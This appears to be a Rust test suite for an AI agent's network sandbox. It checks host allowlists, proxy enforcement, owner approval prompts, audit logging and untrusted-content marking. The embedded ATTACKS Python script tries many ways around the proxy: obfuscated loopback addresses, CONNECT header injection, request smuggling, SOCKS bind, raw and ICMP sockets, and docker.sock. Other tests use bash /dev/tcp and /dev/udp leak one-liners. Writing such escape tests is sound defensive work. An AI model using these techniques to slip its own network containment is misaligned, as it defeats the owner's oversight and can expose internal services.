//! What a command reaches of the net: the hosts of the settings, through the proxy, and nothing else.

mod clients;

use std::{
    net::{TcpListener, UdpSocket},
    os::{
        linux::net::SocketAddrExt as _,
        unix::net::{SocketAddr, UnixListener},
    },
    process::Command,
    time::Duration,
};

use serde_json::json;

use crate::support::{FakeModel, House, Pages, Reply, Sandbox, result_text, wait_for};

const SOON: Duration = Duration::from_secs(30);

/// Runs a command by the model's call and returns its result.
fn exec(sandbox: &Sandbox, model: &FakeModel, command: &str) -> String {
    exec_in("one", sandbox, model, command)
}

/// Runs a command in this conversation.
fn exec_in(session: &str, sandbox: &Sandbox, model: &FakeModel, command: &str) -> String {
    let seen = model.requests().len();
    model.push(Reply::Tool("exec".to_owned(), json!({"command": command})));
    let answer = sandbox.send(&["--wait", "--session", session, "go"]);
    assert_eq!(answer.code, 0, "{}", answer.stderr);
    let request = model
        .wait_requests(seen + 2, SOON)
        .pop()
        .expect("a request");
    let last = request["messages"]
        .as_array()
        .and_then(|all| all.last())
        .expect("messages")
        .clone();
    let blocks = last["content"].as_array().cloned().unwrap_or_default();
    let result = blocks
        .into_iter()
        .find(|block| block["type"] == "tool_result")
        .unwrap_or_else(|| panic!("no result: {last}"));
    result_text(&result)
}

fn has(program: &str) -> bool {
    let found = Command::new("sh")
        .args(["-c", &format!("command -v {program}")])
        .output();
    found.is_ok_and(|found| found.status.success())
}

/// Returns a home whose commands may connect to `hosts`, and run whatever they brought.
fn home(hosts: &[String]) -> (FakeModel, Sandbox) {
    let (model, sandbox) = Sandbox::with_model();
    let sandbox = sandbox.config(&format!(
        "[tools.exec]\npolicy = \"allow\"\n[tools.exec.network]\nallow = {hosts:?}"
    ));
    (model, sandbox)
}

/// A page, and a second server that is not allowed and must never be connected to.
fn servers() -> (Pages, TcpListener) {
    let pages = Pages::start();
    pages.put("/x", 200, "text/plain", "the page\n");
    let other = TcpListener::bind("127.0.0.1:0").expect("a port");
    other.set_nonblocking(true).expect("own socket");
    (pages, other)
}

#[test]
fn programs_reach_the_hosts_that_are_allowed_and_no_others() {
    let (pages, other) = servers();
    let (allowed, refused) = (pages.host(), other.local_addr().expect("own").to_string());
    let (model, sandbox) = home(std::slice::from_ref(&allowed));
    let _daemon = sandbox.ready();
    let python = "/usr/bin/python3 -c 'import sys,urllib.request as u; print(u.urlopen(sys.argv[1]).read().decode())'";
    let programs = [
        ("/usr/bin/python3", python),
        ("curl", "curl -sS"),
        ("curl", "curl -sS --proxytunnel"),
        ("curl", "curl -sS --proxy socks5h://127.0.0.1:3128"),
        ("wget", "wget -q -t 1 -O -"),
    ];
    for (program, command) in programs {
        if !has(program) {
            continue;
        }
        let said = exec(&sandbox, &model, &format!("{command} http://{allowed}/x"));
        assert!(said.contains("the page"), "{command}: {said}");
        let said = exec(&sandbox, &model, &format!("{command} http://{refused}/x"));
        let line = format!(
            "[network: {refused} is not reached: 127.0.0.1 is an address of this machine; the owner can allow it with [tools.exec.network] allow = [\"{refused}\"] in agent.toml]"
        );
        assert!(said.contains(&line), "{command}: {said}");
    }
    assert!(other.accept().is_err(), "somebody connected");
    let audit = sandbox.read("state/audit.jsonl").expect("an audit log");
    let of = |verdict: &str, host: &str| {
        let port = host.rsplit(':').next().expect("a port");
        audit.lines().any(|line| {
            line.contains("\"kind\":\"connection\"")
                && line.contains(&format!(
                    "\"host\":\"127.0.0.1\",\"port\":{port},\"verdict\":\"{verdict}\""
                ))
        })
    };
    assert!(
        of("connected", &allowed) && of("refused", &refused),
        "{audit}"
    );
    assert!(
        !of("connected", &refused) && !of("refused", &allowed),
        "{audit}"
    );
    let told = sandbox.bash("cat state/sessions/*.jsonl").stdout;
    let receipt = format!("; network: {refused} refused");
    assert!(told.contains(&receipt), "{told}");
}

#[test]
fn without_a_network_the_refusal_says_so() {
    let (pages, _other) = servers();
    let (model, sandbox) = Sandbox::with_model();
    let _daemon = sandbox.ready();
    let tools = |model: &FakeModel| model.requests().pop().expect("a request")["tools"].to_string();
    let python = "/usr/bin/python3 -c 'import sys,urllib.request as u; print(u.urlopen(sys.argv[1]).read().decode())'";
    let said = exec(
        &sandbox,
        &model,
        &format!("{python} http://nas.local/ 2>&1 | tail -1"),
    );
    let expected = "nas.local:80 is not";
    assert!(said.matches(expected).count() == 2, "{said}");
    assert!(tools(&model).contains("Network: "), "{}", tools(&model));
    assert!(pages.asked().is_empty());
}

/// What an attacker tries who knows all of this; each line prints what it reached.
const ATTACKS: &str = r#"
import os, socket, struct
def t(name, f):
    try: print(name, 'REACHED', f())
    except Exception as e: pass
host, port = os.environ['OTHER'].split(':'); port = int(port)
ok = int(os.environ['GOOD'].split(':')[1])
P = ('127.0.0.1', 3128)
def direct(a, p): s = socket.create_connection((a, p), 2); s.send(b'x'); return a
for a in ['127.0.0.1', 'localhost', '0.0.0.0', '::1', '::ffff:127.0.0.1', '192.0.2.1']: t('direct', lambda: direct(a, port))
def udp(a, p):
    s = socket.socket(socket.AF_INET6 if ':' in a else socket.AF_INET, socket.SOCK_DGRAM); s.settimeout(1)
    s.sendto(b'\0\1\1\0\0\1\0\0\0\0\0\0\1a\7example\0\0\1\0\1', (a, p)); return s.recv(10)
for a in ['127.0.0.1', '127.0.0.53', '192.0.2.1', '::1', '::ffff:127.0.0.1']: t('dns', lambda: udp(a, 53)); t('udp', lambda: udp(a, port))
t('name', lambda: socket.getaddrinfo('leak.example.org', 80))
def connect(to, more=b''):
    s = socket.create_connection(P, 5); s.sendall(b'CONNECT ' + to.encode() + b' HTTP/1.1\r\nHost: ' + os.environ['GOOD'].encode() + b'\r\n\r\n' + more)
    a = s.recv(200)
    if b' 200 ' in a: return to
    raise Exception(a)
for a in ['127.0.0.1', '127.1', '2130706433', '0x7f.1', '0.0.0.0', '[::1]', '[::ffff:127.0.0.1]', 'localhost', 'localhost.', '127.0.0.1.', 'a.localhost', '169.254.169.254', '10.0.0.1', '192.0.2.1', 'leak.example.org',
          '0177.0.0.1', '0x7f000001', '127.0.0.1..', '[::127.0.0.1]', '[::ffff:7f00:1]', '[64:ff9b::7f00:1]', '[2002:7f00:1::]', '[::1%lo]', '[fe80::1]', '%6cocalhost', '127.0.0.1%00', 'localhost%00.example.org', '\uff4cocalhost', '\uff11\uff12\uff17.0.0.1', '127\u30020\u30020\u30021', 'user@127.0.0.1', 'localhost.localhost', '']:
    t('connect', lambda: connect(f'{a}:{port}'))
t('two hosts', lambda: connect(f'127.0.0.1:{ok}@127.0.0.1:{port}'))
t('two ports', lambda: connect(f'127.0.0.1:{ok}:{port}'))
t('line', lambda: connect(f'127.0.0.1:{port}\r\nX: 127.0.0.1:{ok}'))
for p in ['0', '00', '-1', '65536', f'{port}/', f' {port}', f'+{port}', f'0{port}', f'{port}#:{ok}', f'{port}?:{ok}', f'{port}\\:{ok}']: t('port', lambda: connect(f'127.0.0.1:{p}'))
def socks(kind, address, p):
    s = socket.create_connection(P, 5); s.sendall(b'\5\1\0\5\1\0' + bytes([kind]) + address + struct.pack('>H', p)); s.recv(2); a = s.recv(10)
    if a[1] == 0: return address
    raise Exception(a)
t('socks', lambda: socks(1, b'\x7f\0\0\1', port)); t('socks', lambda: socks(3, b'\x09localhost', port)); t('socks', lambda: socks(4, b'\0' * 15 + b'\1', port)); t('socks', lambda: socks(4, b'\0' * 10 + b'\xff\xff\x7f\0\0\1', port))
def bind(command):
    s = socket.create_connection(P, 5); s.sendall(b'\5\1\0\5' + bytes([command]) + b'\0\1\x7f\0\0\1' + struct.pack('>H', ok)); s.recv(2); a = s.recv(10)
    if a[1] == 0: return command
    raise Exception(a)
t('bind', lambda: bind(2)); t('associate', lambda: bind(3))
def forward(line, host):
    s = socket.create_connection(P, 5); s.sendall(f'{line}\r\nHost: {host}\r\n\r\n'.encode()); a = s.recv(4000)
    if b' 200 ' in a[:20] and b'the page' not in a: return line
    raise Exception(a)
t('forward', lambda: forward(f'GET http://127.0.0.1:{port}/ HTTP/1.1', os.environ['GOOD'])); t('origin', lambda: forward('GET / HTTP/1.1', os.environ['OTHER']))
for line in [f'GET\t/\tHTTP/1.1\nHost:x\n\nGET http://127.0.0.1:{port}/ HTTP/1.1', f'GET http://127.0.0.1:{ok}@127.0.0.1:{port}/ HTTP/1.1', f'GET http://127.0.0.1:{ok}\\@127.0.0.1:{port}/ HTTP/1.1', f'GET //127.0.0.1:{port}/ HTTP/1.1', f'GET https://127.0.0.1:{port}/ HTTP/1.1', f'GET ftp://127.0.0.1:{port}/ HTTP/1.1', f'PRI * HTTP/2.0']: t('forward', lambda: forward(line, os.environ['OTHER']))
def smuggle():
    # A second request behind the first: it goes nowhere but to the server of the first.
    s = socket.create_connection(P, 5); s.settimeout(5)
    s.sendall(f'POST http://127.0.0.1:{ok}/x HTTP/1.1\r\nContent-Length: 0\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\nGET http://127.0.0.1:{port}/ HTTP/1.1\r\n\r\nCONNECT 127.0.0.1:{port} HTTP/1.1\r\n\r\n'.encode()); a = b''
    while d := s.recv(4000): a += d
    if b'Connection established' in a: return a
t('smuggle', lambda: smuggle() or 1 / 0)
def large():
    s = socket.create_connection(P, 5); s.sendall(b'GET http://' + os.environ['GOOD'].encode() + b'/x HTTP/1.1\r\nX: ' + b'a' * 300000 + b'\r\n\r\n'); a = s.recv(100)
    if b' 431 ' not in a: return a
t('large', lambda: large() or 1 / 0)
# Names of sockets without a file are of the network, and the network is another one.
def abstract(): socket.socket(socket.AF_UNIX).connect('\0' + os.environ['ABSTRACT']); return 'abstract'
t('abstract', abstract)
t('unix', lambda: [s for s in ['/run/docker.sock', '/run/dbus/system_bus_socket'] if not socket.socket(socket.AF_UNIX).connect(s)])
t('raw', lambda: socket.socket(socket.AF_INET, socket.SOCK_RAW, 1)); t('raw6', lambda: socket.socket(socket.AF_INET6, socket.SOCK_RAW, 58)); t('netlink', lambda: socket.socket(socket.AF_NETLINK, socket.SOCK_RAW, 16)); t('xdp', lambda: socket.socket(44, socket.SOCK_RAW))
def ping(a): s = socket.socket(socket.AF_INET6 if ':' in a else socket.AF_INET, socket.SOCK_DGRAM, 58 if ':' in a else 1); s.settimeout(1); s.sendto(struct.pack('>BBHHH', 128 if ':' in a else 8, 0, 0, 1, 1) + b'secret', (a, 0)); return a
for a in ['192.0.2.1', '1.1.1.1', '2001:db8::1']: t('icmp', lambda: ping(a))
t('packet', lambda: socket.socket(socket.AF_PACKET, socket.SOCK_RAW)); t('vsock', lambda: socket.socket(socket.AF_VSOCK, socket.SOCK_STREAM))
def ours(): s = socket.socket(); s.bind(P); return P
t('port', ours)
print('tried', connect(f'127.0.0.1:{ok}'))
"#;

#[test]
fn nothing_leaves_around_the_proxy() {
    let (pages, other) = servers();
    let own = other.local_addr().expect("own");
    let datagrams = UdpSocket::bind(own).expect("the port, for datagrams");
    datagrams.set_nonblocking(true).expect("own socket");
    let name = format!("agent-test-{}", own.port());
    let address = SocketAddr::from_abstract_name(&name).expect("short");
    let nameless = UnixListener::bind_addr(&address).expect("a socket");
    nameless.set_nonblocking(true).expect("own socket");
    let (model, sandbox) = home(&[pages.host()]);
    sandbox.put("workspace/attack.py", ATTACKS.as_bytes());
    let _daemon = sandbox.ready();
    let command = format!(
        "env -u HTTP_PROXY -u http_proxy -u HTTPS_PROXY -u https_proxy -u ALL_PROXY -u all_proxy OTHER={own} GOOD={} ABSTRACT={name} /usr/bin/python3 attack.py",
        pages.host()
    );
    let said = exec(&sandbox, &model, &command);
    assert!(
        said.contains("tried 127.0.0.1:") && !said.contains("REACHED"),
        "{said}"
    );
    assert!(other.accept().is_err(), "somebody connected");
    assert!(datagrams.recv(&mut [0]).is_err(), "a datagram came");
    assert!(nameless.accept().is_err(), "somebody connected by name");
    // Programs that look at no variable get nowhere, too.
    let port = own.port();
    for command in [
        format!(
            "env -i /usr/bin/python3 -c 'import urllib.request as u; u.urlopen(\"http://{own}/\", timeout=5)'"
        ),
        format!("bash -c 'exec 3<>/dev/tcp/127.0.0.1/{port}; echo leak >&3'"),
    ] {
        let said = exec(&sandbox, &model, &command);
        assert!(said.contains("refused"), "{command}: {said}");
    }
    // A datagram to nobody is no error.
    let udp = format!("bash -c 'echo leak > /dev/udp/127.0.0.1/{port}'; echo done");
    assert!(exec(&sandbox, &model, &udp).contains("done"));
    assert!(other.accept().is_err() && datagrams.recv(&mut [0]).is_err());
}

#[test]
fn what_a_command_leaves_behind_reaches_nothing() {
    let (pages, _other) = servers();
    let (model, sandbox) = home(&[pages.host()]);
    let daemon = sandbox.ready();
    let code = format!(
        "import socket,time; s=socket.create_connection((\"127.0.0.1\",3128)); s.sendall(b\"CONNECT {0} HTTP/1.1\\r\\n\\r\\n\"); s.recv(99); open(\"begun\",\"w\"); time.sleep(60)",
        pages.host()
    );
    let command =
        format!("setsid /usr/bin/python3 -c '{code}' & while [ ! -e begun ]; do sleep 0.05; done");
    exec(&sandbox, &model, &command);
    // The connection ended with the command: the server's side has no peer any more.
    let port = pages.host().rsplit(':').next().expect("a port").to_owned();
    let is_connected = || {
        let port = format!(":{:04X}", port.parse::<u16>().expect("a port"));
        let table = std::fs::read_to_string(format!("/proc/{}/net/tcp", daemon.pid()))
            .expect("own process");
        table.lines().any(|line| {
            let mut words = line.split_whitespace().skip(2);
            words.next().is_some_and(|peer| peer.ends_with(&port)) && words.next() == Some("01")
        })
    };
    wait_for("the end of the connection", SOON, || {
        (!is_connected()).then_some(())
    });
}

#[test]
fn a_host_that_is_not_allowed_is_asked_for_once_a_command_or_once_a_conversation() {
    if !has("curl") {
        return;
    }
    let house = House::new();
    // Nobody may have this name, so nothing is connected to.
    let curl = "curl -sS --retry 0 http://a.invalid/; curl -sS http://a.invalid/; true";
    let ask = |answer: &str| {
        let seen = house.model.requests().len();
        house
            .model
            .push(Reply::Tool("exec".to_owned(), json!({"command": curl})));
        house.telegram.say(1001, 1001, "fetch it");
        let id = house.sandbox.wait_asked();
        let sql = format!("SELECT question FROM approvals WHERE id = '{id}'");
        let question = format!("{:?}", house.sandbox.query("queue", &sql));
        assert!(
            question.contains("a command wants a.invalid:80"),
            "{question}"
        );
        let verdict = house.sandbox.send(&[&format!("--{answer}"), &id]);
        assert_eq!(verdict.code, 0, "{}", verdict.stderr);
        let requests = house.model.wait_requests(seen + 2, SOON);
        let request = requests.last().expect("a request");
        let messages = request["messages"].as_array().expect("messages");
        messages.last().expect("a message").to_string()
    };
    let said = ask("deny");
    assert!(
        said.contains("a.invalid:80 is not allowed: the owner said no"),
        "{said}"
    );
    let said = ask("approve");
    assert!(said.contains("a.invalid:80 cannot be found"), "{said}");
    // Once was for that command.
    let said = ask("deny");
    assert!(said.contains("the owner said no"), "{said}");
    let rows = house
        .sandbox
        .query("queue", "SELECT count(*) FROM approvals");
    assert_eq!(format!("{rows:?}"), "[[Integer(3)]]");
}

#[test]
fn where_nobody_waits_nobody_is_asked() {
    let (model, sandbox) = Sandbox::with_model();
    let _daemon = sandbox.ready();
    let python = "/usr/bin/python3 -c 'import urllib.request as u; u.urlopen(\"http://a.invalid/\")' 2>&1 | tail -1";
    model.push(Reply::Tool("exec".to_owned(), json!({"command": python})));
    let event = sandbox.send(&["--system", "--source", "cron", "look"]);
    assert_eq!(event.code, 0, "{}", event.stderr);
    let request = model
        .wait_requests(2, SOON)
        .pop()
        .expect("a request")
        .to_string();
    assert!(
        request.contains("a.invalid:80 is not allowed; the owner can allow it"),
        "{request}"
    );
    assert!(
        sandbox
            .query("queue", "SELECT id FROM approvals")
            .is_empty()
    );
}

#[test]
fn what_is_allowed_always_holds_where_nobody_waits_and_what_is_for_the_conversation_does_not() {
    let house = House::new();
    let sandbox = &house.sandbox;
    let fetch = |host: &str| {
        let python = format!(
            "/usr/bin/python3 -c 'import urllib.request as u; u.urlopen(\"http://{host}/\")' 2>&1 | tail -1"
        );
        json!({"command": python})
    };
    let call = |input| house.model.push(Reply::Tool("exec".to_owned(), input));
    let last = |count| {
        let requests = house.model.wait_requests(count, SOON);
        let messages = requests.last().expect("a request")["messages"].clone();
        let last = messages.as_array().and_then(|all| all.last());
        last.expect("a message").to_string()
    };
    // Nobody may have these names, so nothing is connected to.
    for (host, how) in [("a.invalid", "--always"), ("b.invalid", "--for-session")] {
        let seen = house.model.requests().len();
        call(fetch(host));
        house.telegram.say(1001, 1001, "fetch it");
        let verdict = sandbox.send(&["--approve", &sandbox.wait_asked(), how]);
        assert_eq!(verdict.code, 0, "{}", verdict.stderr);
        let said = last(seen + 2);
        assert!(
            said.contains(&format!("{host}:80 cannot be found")),
            "{said}"
        );
    }
    let in_event = |host: &str| {
        let seen = house.model.requests().len();
        call(fetch(host));
        let event = sandbox.send(&["--system", "--source", "cron", "look"]);
        assert_eq!(event.code, 0, "{}", event.stderr);
        last(seen + 2)
    };
    let in_job = |host: &str| {
        let seen = house.model.requests().len();
        call(fetch(host));
        let run = sandbox.send(&["--job", "run", "look"]);
        assert_eq!(run.code, 0, "{}", run.stderr);
        last(seen + 2)
    };
    let added = sandbox.send(&[
        "--job",
        "add",
        "look",
        "--name",
        "look",
        "--cron",
        "0 8 1 1 *",
    ]);
    assert_eq!(added.code, 0, "{}", added.stderr);
    let check = |host: &str, expected: &str| {
        for said in [in_event(host), in_job(host)] {
            assert!(said.contains(&format!("{host}:80 {expected}")), "{said}");
        }
    };
    check("a.invalid", "cannot be found");
    check("b.invalid", "is not allowed; the owner can allow it");
    check("c.invalid", "is not allowed; the owner can allow it");
    let asked = sandbox.query("queue", "SELECT count(*) FROM approvals");
    assert_eq!(format!("{asked:?}"), "[[Integer(2)]]");
    let audit = sandbox.read("state/audit.jsonl").expect("an audit log");
    assert!(
        audit.contains("\"host\":\"c.invalid\",\"port\":80,\"verdict\":\"refused\""),
        "{audit}"
    );
    // Taken back is taken back at once.
    std::fs::remove_file(sandbox.path("state/rules.json")).expect("it was written");
    check("a.invalid", "is not allowed; the owner can allow it");
}

#[test]
fn what_a_command_brings_from_the_net_is_untrusted_and_stays_so() {
    let (pages, _other) = servers();
    let (model, sandbox) = home(&[pages.host()]);
    let _daemon = sandbox.ready();
    let python = format!(
        "mkdir got; /usr/bin/python3 -c 'import urllib.request as u; open(\"got/page\",\"wb\").write(u.urlopen(\"{}\").read())'",
        pages.url("/x")
    );
    exec(&sandbox, &model, &python);
    let marks = sandbox.read("state/untrusted.json").expect("marks");
    assert!(marks.contains("\"got/page\""), "{marks}");
    // In a new conversation, where nothing untrusted was read: what another command opens is untrusted, and so is what
    // it makes of it.
    let said = exec_in("two", &sandbox, &model, "ls got > list; echo fine");
    assert!(!said.contains("untrusted"), "{said}");
    let said = exec_in(
        "three",
        &sandbox,
        &model,
        "cat */page > copy; tail -c 9 copy",
    );
    assert!(
        said.contains("untrusted") && said.contains("page"),
        "{said}"
    );
    let marks = sandbox.read("state/untrusted.json").expect("marks");
    assert!(
        marks.contains("\"copy\"") && !marks.contains("\"list\""),
        "{marks}"
    );
}

#[test]
fn what_a_command_brought_that_did_not_end_by_itself_is_untrusted() {
    let (pages, _other) = servers();
    let (model, sandbox) = home(&[pages.host()]);
    let bring = |name: &str| {
        let command = format!(
            "/usr/bin/python3 -c 'import urllib.request as u; open(\"{name}\",\"wb\").write(u.urlopen(\"{}\").read())'; echo it is there > {name}.done; sleep 1000",
            pages.url("/x")
        );
        model.push(Reply::Tool("exec".to_owned(), json!({"command": command})));
        assert_eq!(sandbox.send(&["--session", name, "go"]).code, 0);
        wait_for("the page", SOON, || {
            sandbox.read(&format!("workspace/{name}.done"))
        });
    };
    let is_marked = |name: &str| {
        let marks = || sandbox.read("state/untrusted.json").unwrap_or_default();
        wait_for(name, SOON, || {
            marks().contains(&format!("\"{name}\"")).then_some(())
        });
    };
    let daemon = sandbox.ready();
    bring("stopped");
    assert_eq!(sandbox.send(&["--stop"]).code, 0);
    is_marked("stopped");
    bring("killed");
    daemon.kill9();
    let _daemon = sandbox.ready();
    is_marked("killed");
    let ended = || sandbox.read("state/untrusted-periods.json");
    assert_eq!(ended().as_deref(), Some("{\"v\":1,\"periods\":[]}"));
}

#[test]
fn what_a_trusted_host_says_is_the_owners() {
    let (pages, _other) = servers();
    let (model, sandbox) = home(&[pages.host()]);
    let sandbox = sandbox.config("[tools]\ntrusted_hosts = [\"127.0.0.1\"]");
    let _daemon = sandbox.ready();
    let python = format!(
        "/usr/bin/python3 -c 'import urllib.request as u; print(u.urlopen(\"{}\").read())' | tee page",
        pages.url("/x")
    );
    let said = exec(&sandbox, &model, &python);
    assert!(
        said.contains("page") && !said.contains("untrusted"),
        "{said}"
    );
    assert!(sandbox.read("state/untrusted.json").is_none());
    assert!(sandbox.read("state/untrusted-periods.json").is_none());
}
